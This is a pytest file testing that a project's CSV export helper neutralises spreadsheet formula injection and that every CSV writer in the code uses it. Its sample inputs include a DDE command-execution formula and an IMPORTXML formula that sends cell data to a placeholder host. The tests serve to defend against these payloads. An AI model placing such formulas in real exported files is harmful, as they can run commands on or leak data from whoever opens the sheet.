"""Hostile corpus, outputs: text a spreadsheet would run as a formula is neutralised in every
CSV the project writes, and no CSV writer bypasses the shared helper."""
from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from core.config import REPO_ROOT
from core.io_utils import csv_safe, csv_text, frame_csv_bytes

FORMULAS = ["=cmd|' -C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "=HYPERLINK(\"https://host\",\"x\")", "=IMPORTXML(CONCAT(\"https://host/?\",A1),\"//a\")"]


@pytest.mark.parametrize("value", FORMULAS, ids=["dde", "plus", "minus", "at", "tab", "cr", "hyperlink", "importxml"])
def test_formula_text_is_neutralised_in_rows_and_frames(value):
    assert csv_safe(value) == "'" + value
    rows = list(csv.reader(io.StringIO(csv_text([["name"], [value]]), newline="")))
    assert rows[1][0] == "'" + value
    frame = pd.DataFrame({"name": [value, "TN_1.jpg"], "score": [-0.5, 0.25]})
    parsed = pd.read_csv(io.BytesIO(frame_csv_bytes(frame)), keep_default_na=False)
    assert parsed["name"][0] == "'" + value and parsed["name"][1] == "TN_1.jpg"
    assert list(parsed["score"]) == [-0.5, 0.25]  # numbers stay numbers


def test_hostile_column_names_are_neutralised_too():
    frame = pd.DataFrame({"=1+1": ["a"]})
    assert frame_csv_bytes(frame).decode().splitlines()[0] == "'=1+1"


def test_every_csv_writer_goes_through_the_helper():
    """A new ``to_csv``/``csv.writer`` elsewhere would reopen the hole: fail until it uses the helper."""
    offenders = []
    for folder in ("core", "ui", "pages"):
        for path in (REPO_ROOT / folder).rglob("*.py"):
            if path.name == "io_utils.py":
                continue
            text = path.read_text(encoding="utf-8")
            for number, line in enumerate(text.splitlines(), 1):
                if ".to_csv(" in line and "safe_frame(" not in line:
                    offenders.append(f"{path.relative_to(REPO_ROOT)}:{number}")
                if re.search(r"csv\.(writer|DictWriter)\(", line) and "csv_safe" not in text:
                    offenders.append(f"{path.relative_to(REPO_ROOT)}:{number}")
    assert offenders == []
